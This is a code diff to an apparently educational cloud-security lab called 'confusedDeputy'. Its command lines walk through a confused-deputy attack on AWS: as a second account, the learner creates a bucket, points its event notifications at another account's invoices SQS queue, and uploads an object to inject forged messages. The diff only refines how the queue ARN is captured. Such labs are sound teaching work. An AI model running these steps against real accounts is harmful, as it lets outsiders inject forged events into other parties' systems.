@@ -29,9 +29,10 @@ export const confusedDeputy = defineLab(
     ],
     commandLines: [
       'INVOICES=$(aws sqs get-queue-url --queue-name invoices --query QueueUrl --output text)',
-      'aws sqs get-queue-attributes --queue-url "$INVOICES" --attribute-names Policy QueueArn',
+      'ARN=$(aws sqs get-queue-attributes --queue-url "$INVOICES" --attribute-names QueueArn --query Attributes.QueueArn --output text)',
+      'aws sqs get-queue-attributes --queue-url "$INVOICES" --attribute-names Policy',
       'AWS_ACCESS_KEY_ID=999988887777 aws s3api create-bucket --bucket cats-of-a-stranger',
-      `AWS_ACCESS_KEY_ID=999988887777 aws s3api put-bucket-notification-configuration --bucket cats-of-a-stranger --notification-configuration '{"QueueConfigurations":[{"QueueArn":"the QueueArn above","Events":["s3:ObjectCreated:*"]}]}'`,
+      'AWS_ACCESS_KEY_ID=999988887777 aws s3api put-bucket-notification-configuration --bucket cats-of-a-stranger --notification-configuration "QueueConfigurations=[{QueueArn=$ARN,Events=[s3:ObjectCreated:*]}]"',
       'AWS_ACCESS_KEY_ID=999988887777 aws s3api put-object --bucket cats-of-a-stranger --key invoice-1.pdf',
       'aws sqs receive-message --queue-url "$INVOICES" --max-number-of-messages 10',
     ],
